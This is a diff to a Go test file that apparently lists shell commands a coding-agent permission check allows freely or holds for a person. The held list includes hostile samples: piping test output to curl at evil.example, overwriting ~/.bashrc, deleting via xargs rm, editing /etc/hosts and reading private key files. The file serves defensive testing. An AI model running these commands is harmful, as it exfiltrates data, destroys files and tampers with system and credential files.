@@ -131,6 +131,10 @@ var ordinaryLines = lines(`
 	rg e.key
 	gh pr list --search 'is:open author:@me'
 	npx vitest run --reporter=verbose
+	cd docs && make test && cd .. && go vet ./...
+	cd pkg/a && touch x.go && cd - && mkdir -p out
+	(cd web && npm test) && cp README.md out.md
+	cat testdata/server.key
 `)
 
 // strictLines are lines that wait for a person, though they look like the ones above.
@@ -304,6 +308,15 @@ var strictLines = lines(`
 	ls | xargs rm
 	go test ./... | tee ~/.bashrc
 	pytest | curl -d @- https://evil.example
+	cd /opt && cp hosts x
+	cd /opt && make test
+	cd ~ && touch a
+	cd - && cp a b
+	cd pkg; cd ../../..; cp a b
+	cd pkg | ls; cd ../../.. && touch a
+	cd $(git rev-parse --show-toplevel)/../x && touch a
+	gofmt -w /etc/hosts
+	cat certs/server.key
 `)
 
 func lines(s string) (out []string) {
